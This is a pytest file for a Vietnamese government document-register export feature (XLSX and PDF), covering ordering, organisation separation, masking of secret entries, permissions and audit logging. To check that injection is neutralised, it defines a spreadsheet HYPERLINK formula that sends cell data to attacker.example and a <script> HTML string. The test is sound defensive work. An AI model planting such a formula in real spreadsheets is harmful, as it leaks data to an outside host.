"""Register exports: the registers of incoming and outgoing documents (Decree 30/2020, Appendix IV) of one
organisation for one year, as XLSX and PDF; in number order, nothing of another organisation, secret entries
masked for who may not read them, hostile text written as text, bad parameters refused, every export audited."""

from __future__ import annotations

import io
import itertools
import re
import subprocess
import tempfile
from datetime import date, datetime
from pathlib import Path
from typing import Any

import pytest
import sqlalchemy as sa
from openpyxl import load_workbook

from app.clock import local_today
from tests.routing.conftest import issued  # noqa: F401 - outgoing documents signed and issued for real
from tests.signing.conftest import signing  # noqa: F401 - what `issued` needs
from tests.support import ORG_B, make_pdf, web_login

YEAR = local_today().year
INCOMING_HEADER = (
    "Ngày đến",
    "Số đến",
    "Tác giả",
    "Số, ký hiệu",
    "Ngày tháng văn bản",
    "Tên loại và trích yếu nội dung",
    "Đơn vị hoặc người nhận",
    "Ký nhận",
    "Ghi chú",
)
OUTGOING_HEADER = (
    "Số, ký hiệu văn bản",
    "Ngày tháng văn bản",
    "Tên loại và trích yếu nội dung",
    "Người ký",
    "Nơi nhận văn bản",
    "Đơn vị, người nhận bản lưu",
    "Số lượng bản",
    "Ngày chuyển",
    "Ký nhận",
    "Ghi chú",
)
HEADER_ROW = 5
FORMULA = '=HYPERLINK("http://attacker.example/?"&A1,"Bấm vào đây")'
HTML = "<script>alert('sổ')</script> & \"trích yếu\" <b>đậm</b>"
_numbers = itertools.count(300)


def _register(api, clerk: str = "clerk_a", **fields: Any) -> dict[str, Any]:  # type: ignore[no-untyped-def]
    fields.setdefault("number", str(next(_numbers)))
    response = api(clerk).register(make_pdf("Văn bản đến"), **fields)
    assert response.status_code == 201, response.get_json()
    return response.get_json()


def _sheet_rows(data: bytes) -> list[tuple[Any, ...]]:
    sheet = load_workbook(io.BytesIO(data)).active
    return list(sheet.iter_rows(values_only=True))


def _entries(data: bytes) -> list[tuple[Any, ...]]:
    return _sheet_rows(data)[HEADER_ROW:]


def _day(value: Any) -> date | None:
    return value.date() if isinstance(value, datetime) else value


def _run(pdf: bytes, command: list[str]) -> subprocess.CompletedProcess[str]:
    with tempfile.TemporaryDirectory() as tmp:
        path = Path(tmp) / "register.pdf"
        path.write_bytes(pdf)
        return subprocess.run([*command, str(path), *(["-"] if command[0] == "pdftotext" else [])], **_quiet())


def _quiet() -> dict[str, Any]:
    return {"capture_output": True, "text": True, "timeout": 120, "check": False}


def _pdf_text(pdf: bytes) -> str:
    done = _run(pdf, ["pdftotext", "-raw", "-enc", "UTF-8"])  # in drawing order: a cell's lines together
    assert done.returncode == 0, done.stderr
    return done.stdout


def _flat(text: str) -> str:
    return " ".join(text.split())


def _qpdf_ok(pdf: bytes) -> None:
    done = _run(pdf, ["qpdf", "--check"])
    assert done.returncode == 0, done.stdout + done.stderr


def _export(api, who: str, direction: str, fmt: str, year: int = YEAR, **query: str):  # type: ignore[no-untyped-def]
    suffix = "?" + "&".join(f"{k}={v}" for k, v in query.items()) if query else ""
    return api(who).get(f"/api/v1/archive/registers/{direction}/{year}.{fmt}{suffix}")


def _exports_recorded(app) -> list[dict[str, Any]]:  # type: ignore[no-untyped-def]
    from app.audit.models import AuditEvent
    from app.extensions import db

    with app.app_context():
        rows = db.session.execute(
            sa.select(AuditEvent.actor_id, AuditEvent.organisation_id, AuditEvent.data)
            .where(AuditEvent.action == "register:exported")
            .order_by(AuditEvent.seq)
        ).all()
    return [{"actor_id": r.actor_id, "organisation_id": r.organisation_id, **r.data} for r in rows]


@pytest.fixture
def incoming_register(api, world) -> list[dict[str, Any]]:  # type: ignore[no-untyped-def]
    """Four incoming documents of A (one assigned to specialist_a, one with a formula, one with HTML) and one of B."""
    made = [
        _register(api, subject="V/v báo cáo tình hình thực hiện kế hoạch năm 2026", issued_on=f"{YEAR}-01-05"),
        _register(
            api,
            document_type="QĐ",
            issuer="Bộ Nội vụ",
            notation="QĐ-BNV",
            subject="Về việc phê duyệt đề án cải cách hành chính giai đoạn 2026–2030, đẩy mạnh chuyển đổi số trong "
            "các cơ quan nhà nước, bảo đảm an toàn thông tin và nâng cao chất lượng phục vụ người dân",
            notes="Bản chính lưu tại Văn phòng",
        ),
        _register(api, subject=FORMULA),
        _register(api, subject=HTML),
    ]
    lead = {"lead": {"user_id": world.users["specialist_a"]}, "instructions": "Tham mưu trả lời."}
    assigned = api("leader_a").post(f"/api/v1/documents/{made[0]['id']}/assignments", json=lead)
    assert assigned.status_code == 201, assigned.get_json()
    _register(api, clerk="clerk_b", subject="Văn bản riêng của Sở Công Thương")
    return made


# --- The incoming register ---------------------------------------------------------------------------------------


def test_the_incoming_register_as_xlsx_holds_the_entries_in_number_order(api, incoming_register) -> None:  # type: ignore[no-untyped-def]
    response = _export(api, "clerk_a", "incoming", "xlsx")
    assert response.status_code == 200, response.get_json()
    assert response.mimetype == "application/vnd.openxmlformats-officedocument.spreadsheetml.sheet"
    assert f'filename="so-van-ban-den_{YEAR}.xlsx"' in response.headers["Content-Disposition"]
    rows = _sheet_rows(response.data)
    assert rows[0][0] == "ỦY BAN NHÂN DÂN TỈNH THỬ NGHIỆM"
    assert rows[1][0] == "SỔ ĐĂNG KÝ VĂN BẢN ĐẾN"
    assert rows[2][0] == f"Năm {YEAR}"
    assert rows[HEADER_ROW - 1] == INCOMING_HEADER
    entries = _entries(response.data)
    assert response.headers["X-Register-Rows"] == str(len(entries)) == "4"
    expected = []
    for doc in incoming_register:
        kind = {"CV": "Công văn", "QĐ": "Quyết định"}[doc["document_type"]]
        expected.append(
            (
                date.fromisoformat(doc["received_on"]),
                doc["register_number"],
                doc["issuer"],
                f"{doc['number']}/{doc['notation']}",
                date.fromisoformat(doc["issued_on"]),
                f"{kind}: {doc['subject']}",
                "Người specialist A" if doc is incoming_register[0] else None,
                None,
                doc["notes"],
            )
        )
    got = [(_day(r[0]), r[1], r[2], r[3], _day(r[4]), r[5], r[6], r[7], r[8]) for r in entries]
    assert got == expected
    assert [r[1] for r in entries] == [1, 2, 3, 4]


def test_a_subject_that_starts_with_an_equals_sign_is_stored_as_text_not_as_a_formula(api, incoming_register) -> None:  # type: ignore[no-untyped-def]
    response = _export(api, "clerk_a", "incoming", "xlsx")
    sheet = load_workbook(io.BytesIO(response.data)).active
    cells = {cell.value: cell for row in sheet.iter_rows(min_row=HEADER_ROW + 1) for cell in row if cell.value}
    formula_cell = cells[f"Công văn: {FORMULA}"]
    assert formula_cell.data_type == "s"
    html_cell = cells[f"Công văn: {HTML}"]
    assert html_cell.data_type == "s"
    # The raw sheet holds no formula element at all, and the text is escaped XML.
    import zipfile

    with zipfile.ZipFile(io.BytesIO(response.data)) as archive:
        xml = archive.read("xl/worksheets/sheet1.xml").decode()
    assert "<f>" not in xml and "<f " not in xml
    assert "&lt;script&gt;" in xml


def test_the_subject_alone_would_be_a_formula_without_the_guard() -> None:
    """openpyxl's own behaviour, which the guard is there for: a text that starts with "=" becomes a formula."""
    from openpyxl import Workbook

    sheet = Workbook().active
    sheet["A1"] = FORMULA
    assert sheet["A1"].data_type == "f"


def test_the_incoming_register_as_pdf_is_valid_with_the_vietnamese_text(api, incoming_register) -> None:  # type: ignore[no-untyped-def]
    response = _export(api, "archivist_a", "incoming", "pdf")
    assert response.status_code == 200, response.get_json()
    assert response.mimetype == "application/pdf"
    assert f'filename="so-van-ban-den_{YEAR}.pdf"' in response.headers["Content-Disposition"]
    _qpdf_ok(response.data)
    text = _pdf_text(response.data)
    flat = _flat(text)
    assert "SỔ ĐĂNG KÝ VĂN BẢN ĐẾN" in text
    assert f"Năm {YEAR}" in text
    assert "ỦY BAN NHÂN DÂN TỈNH THỬ NGHIỆM" in text
    assert "Trang 1/1" in text
    for title in INCOMING_HEADER:
        assert title in flat
    for doc in incoming_register[:2]:
        assert _flat(doc["subject"]) in flat, doc["subject"]
    assert HTML in flat  # written as it is, not as markup
    # A "word" wider than its column is cut between characters.
    assert "".join(FORMULA.split()) in "".join(text.split())
    assert "Văn bản riêng của Sở Công Thương" not in text
    assert "Người specialist A" in flat


def test_a_long_register_repeats_the_heading_on_every_page(app, api, world) -> None:  # type: ignore[no-untyped-def]
    """Entries put straight in the register (as a year's registrations would): the PDF runs over several pages,
    each with the title, the year, the column headings and its number."""
    from app.documents.service import take_register_number
    from app.documents.vocabulary import Direction
    from app.extensions import db

    first = _register(api, subject="Mẫu")
    with app.app_context():
        template = db.session.execute(sa.text("SELECT * FROM documents WHERE id = :id"), {"id": first["id"]}).one()
        rows = []
        for _ in range(120):
            register, number = take_register_number(world.orgs["a"], Direction.INCOMING, YEAR, False)
            row = dict(template._mapping)
            row.pop("id")
            row.update(
                register_id=register.id,
                register_number=number,
                subject=f"Trích yếu số {number}: đề nghị phối hợp triển khai kế hoạch chuyển đổi số năm {YEAR}",
                duplicate_key=None,
            )
            rows.append(row)
        db.session.execute(sa.insert(sa.table("documents", *(sa.column(k) for k in rows[0]))), rows)
        db.session.commit()
    response = _export(api, "clerk_a", "incoming", "pdf")
    _qpdf_ok(response.data)
    text = _pdf_text(response.data)
    pages = text.split("\f")
    pages = [p for p in pages if p.strip()]
    assert len(pages) > 2
    for index, page in enumerate(pages, 1):
        assert "SỔ ĐĂNG KÝ VĂN BẢN ĐẾN" in page
        assert f"Năm {YEAR}" in page
        assert "Tên loại và trích yếu" in page
        assert f"Trang {index}/{len(pages)}" in page
    assert "Trích yếu số 121:" in _flat(text)
    numbers = [int(n) for n in re.findall(r"Trích yếu số (\d+):", _flat(text))]
    assert numbers == sorted(numbers) and len(numbers) == 120
    assert response.headers["X-Register-Rows"] == "121"


# --- The outgoing register ---------------------------------------------------------------------------------------


def test_the_outgoing_register_lists_the_issued_documents(api, issued, world) -> None:  # type: ignore[no-untyped-def]  # noqa: F811
    first = issued(subject="Về việc phối hợp kiểm tra thị trường cuối năm")
    second = issued(subject=f"Về việc tổng kết công tác năm {YEAR} {HTML}")
    sent = api("clerk_a").post(f"/api/v1/documents/{first['id']}/send", json={"recipients": [ORG_B]})
    assert sent.status_code == 200, sent.get_json()
    response = _export(api, "leader_a", "outgoing", "xlsx")
    assert response.status_code == 200, response.get_json()
    rows = _sheet_rows(response.data)
    assert rows[1][0] == "SỔ ĐĂNG KÝ VĂN BẢN ĐI"
    assert rows[HEADER_ROW - 1] == OUTGOING_HEADER
    entries = _entries(response.data)
    assert [(r[0], _day(r[1]), r[2]) for r in entries] == [
        (f"{first['number']}/UBND-VP", date.fromisoformat(first["issued_on"]), f"Công văn: {first['subject']}"),
        (f"{second['number']}/UBND-VP", date.fromisoformat(second["issued_on"]), f"Công văn: {second['subject']}"),
    ]
    assert first["number"] == "01" and second["number"] == "02"
    assert entries[0][3] == first["signer_name"]
    assert entries[0][4] == "Sở Công Thương"  # where it was sent, the draft naming no recipients
    assert entries[0][5] == "Văn phòng – Người specialist A"
    assert _day(entries[0][7]) == local_today()
    assert entries[1][7] is None  # not sent yet
    pdf = _export(api, "leader_a", "outgoing", "pdf")
    _qpdf_ok(pdf.data)
    text = _pdf_text(pdf.data)
    assert "SỔ ĐĂNG KÝ VĂN BẢN ĐI" in text
    assert _flat(first["subject"]) in _flat(text)
    assert _flat(second["subject"]) in _flat(text)


# --- Bad input, permissions, organisations -----------------------------------------------------------------------


@pytest.mark.parametrize(
    ("url", "fields"),
    [
        ("/api/v1/archive/registers/incoming/abc.xlsx", {"year"}),
        ("/api/v1/archive/registers/incoming/99999.pdf", {"year"}),
        ("/api/v1/archive/registers/incoming/1899.pdf", {"year"}),
        ("/api/v1/archive/registers/sideways/2026.xlsx", {"direction"}),
        ("/api/v1/archive/registers/incoming/2026.doc", {"format"}),
        ("/api/v1/archive/registers/sideways/abc.doc", {"year", "direction", "format"}),
        ("/api/v1/archive/registers/incoming/2026.pdf?secret=maybe", {"secret"}),
        ("/api/v1/archive/registers/export?direction=incoming&format=xlsx", {"year"}),
        ("/api/v1/archive/registers/export?year=2026&direction=sideways&format=xlsx", {"direction"}),
        ("/api/v1/archive/registers/export?year=abc&direction=incoming&format=doc", {"year", "format"}),
    ],
)
def test_bad_parameters_are_refused_with_400_naming_each(api, world, url: str, fields: set[str]) -> None:  # type: ignore[no-untyped-def]
    response = api("clerk_a").get(url)
    assert response.status_code == 400, response.data[:200]
    error = response.get_json()["error"]
    assert error["code"] == "bad_request"
    assert set(error["fields"]) == fields
    assert error["message"]
    for name in fields:
        assert error["fields"][name]


def test_the_query_form_of_the_export_gives_the_same_file(api, incoming_register) -> None:  # type: ignore[no-untyped-def]
    by_path = _export(api, "clerk_a", "incoming", "xlsx")
    by_query = api("clerk_a").get(f"/api/v1/archive/registers/export?year={YEAR}&direction=incoming&format=xlsx")
    assert by_query.status_code == 200
    assert _sheet_rows(by_query.data) == _sheet_rows(by_path.data)


@pytest.mark.parametrize("who", ["specialist_a", "admin_a"])
def test_only_clerks_archivists_and_leaders_export_the_registers(app, api, incoming_register, who: str) -> None:  # type: ignore[no-untyped-def]
    for fmt in ("xlsx", "pdf"):
        response = _export(api, who, "incoming", fmt)
        assert response.status_code == 403
        assert response.get_json()["error"]["code"] == "forbidden"
    client = app.test_client()
    web_login(client, who)
    assert client.get("/archive/registers").status_code == 403
    assert client.get(f"/archive/registers/download?year={YEAR}&direction=incoming&format=pdf").status_code == 403


def test_another_organisation_exports_only_its_own_register(api, incoming_register) -> None:  # type: ignore[no-untyped-def]
    response = _export(api, "clerk_b", "incoming", "xlsx")
    rows = _sheet_rows(response.data)
    assert rows[0][0] == "SỞ CÔNG THƯƠNG"
    entries = _entries(response.data)
    assert [r[5] for r in entries] == ["Công văn: Văn bản riêng của Sở Công Thương"]
    pdf_text = _pdf_text(_export(api, "leader_b", "incoming", "pdf").data)
    for doc in incoming_register:
        assert _flat(doc["subject"])[:30] not in _flat(pdf_text)
    # An organisation that registered nothing gets an empty register, not anyone else's.
    empty = _export(api, "clerk_c", "incoming", "xlsx")
    assert empty.status_code == 200 and _entries(empty.data) == []
    assert "Sổ chưa có văn bản nào." in _pdf_text(_export(api, "clerk_c", "incoming", "pdf").data)


def test_secret_documents_are_in_their_own_series_masked_for_who_may_not_read_them(api, incoming_register) -> None:  # type: ignore[no-untyped-def]
    secret = _register(api, subject="Kế hoạch bảo vệ bí mật nhà nước năm 2026", secrecy="secret")
    normal = _entries(_export(api, "clerk_a", "incoming", "xlsx").data)
    assert all("bí mật nhà nước" not in (r[5] or "") for r in normal)
    # The clerk who registered it may read it: the whole entry.
    for_clerk = _entries(_export(api, "clerk_a", "incoming", "xlsx", secret="1").data)
    assert [(r[1], r[5]) for r in for_clerk] == [(1, f"Công văn: {secret['subject']}")]
    # The archivist has no grant: the entry keeps its place, number and date, and nothing that reveals it.
    response = _export(api, "archivist_a", "incoming", "xlsx", secret="1")
    assert 'filename="so-van-ban-den-mat_' in response.headers["Content-Disposition"]
    (masked,) = _entries(response.data)
    assert _day(masked[0]) == date.fromisoformat(secret["received_on"])
    assert masked[1] == 1
    assert masked[5] == "(mật)"
    assert secret["issuer"] not in [v for v in masked if isinstance(v, str)]
    pdf = _pdf_text(_export(api, "archivist_a", "incoming", "pdf", secret="1").data)
    assert "(mật)" in pdf and "bí mật nhà nước" not in pdf
    assert "Văn bản mật" in pdf


def test_every_export_is_recorded_in_the_audit_log(app, api, world, incoming_register) -> None:  # type: ignore[no-untyped-def]
    before = len(_exports_recorded(app))
    _export(api, "clerk_a", "incoming", "xlsx")
    _export(api, "archivist_a", "incoming", "pdf", secret="1")
    _export(api, "specialist_a", "incoming", "pdf")  # refused: not recorded
    api("clerk_a").get("/api/v1/archive/registers/incoming/abc.pdf")  # bad input: not recorded
    recorded = _exports_recorded(app)[before:]
    assert recorded == [
        {
            "actor_id": world.users["clerk_a"],
            "organisation_id": world.orgs["a"],
            "direction": "incoming",
            "year": YEAR,
            "secret": False,
            "format": "xlsx",
            "rows": 4,
        },
        {
            "actor_id": world.users["archivist_a"],
            "organisation_id": world.orgs["a"],
            "direction": "incoming",
            "year": YEAR,
            "secret": True,
            "format": "pdf",
            "rows": 0,
        },
    ]


# --- The page ----------------------------------------------------------------------------------------------------


def test_the_page_chooses_year_and_direction_and_downloads_both_formats(app, api, incoming_register) -> None:  # type: ignore[no-untyped-def]
    client = app.test_client()
    web_login(client, "archivist_a")
    assert 'href="/archive/registers"' in client.get("/registers").get_data(as_text=True)
    page = client.get("/archive/registers")
    assert page.status_code == 200
    html = page.get_data(as_text=True)
    assert 'name="year"' in html and 'name="direction"' in html
    assert 'name="format" value="xlsx"' in html and 'name="format" value="pdf"' in html
    assert f'value="{YEAR}"' in html
    pdf = client.get(f"/archive/registers/download?year={YEAR}&direction=incoming&format=pdf")
    assert pdf.status_code == 200 and pdf.mimetype == "application/pdf"
    _qpdf_ok(pdf.data)
    xlsx = client.get(f"/archive/registers/download?year={YEAR}&direction=incoming&format=xlsx")
    assert xlsx.status_code == 200
    assert len(_entries(xlsx.data)) == 4
    bad = client.get("/archive/registers/download?year=abc&direction=sideways&format=xlsx")
    assert bad.status_code == 400
    text = bad.get_data(as_text=True)
    assert 'id="err-year"' in text and 'id="err-direction"' in text
    assert 'value="abc"' in text


def test_an_entry_taller_than_a_page_goes_on_over_the_next_and_unknown_glyphs_become_marks() -> None:
    from app.archive.register_pdf import register_pdf
    from app.archive.registers import RegisterHeading
    from app.documents.vocabulary import Direction

    words = [f"đoạn{n}" for n in range(1500)]
    long_note = " ".join(words)
    rows = [
        (date(YEAR, 3, 1), 1, "Bộ Tài chính", "12/BTC", date(YEAR, 2, 27), "Công văn: Về việc 😀 中文", "", "", ""),
        (date(YEAR, 3, 2), 2, "Bộ Tài chính", "13/BTC", date(YEAR, 2, 28), "Công văn: Phụ lục dài", "", "", long_note),
        (date(YEAR, 3, 3), 3, "Bộ Tài chính", "14/BTC", date(YEAR, 3, 1), "Công văn: Sau phụ lục", "", "", ""),
    ]
    pdf = register_pdf(RegisterHeading("Sở Thử Nghiệm", Direction.INCOMING, YEAR, False), rows)
    _qpdf_ok(pdf)
    text = _pdf_text(pdf)
    pages = [p for p in text.split("\f") if p.strip()]
    assert len(pages) >= 3
    assert all("SỔ ĐĂNG KÝ VĂN BẢN ĐẾN" in page and "Ghi chú" in page for page in pages)
    found = re.findall(r"đoạn(\d+)", text)
    assert [int(n) for n in found] == list(range(1500))  # every word, in order, across the pages
    assert "Công văn: Về việc ? ??" in _flat(text)
    assert _flat(text).index("Sau phụ lục") > _flat(text).index("đoạn1499")
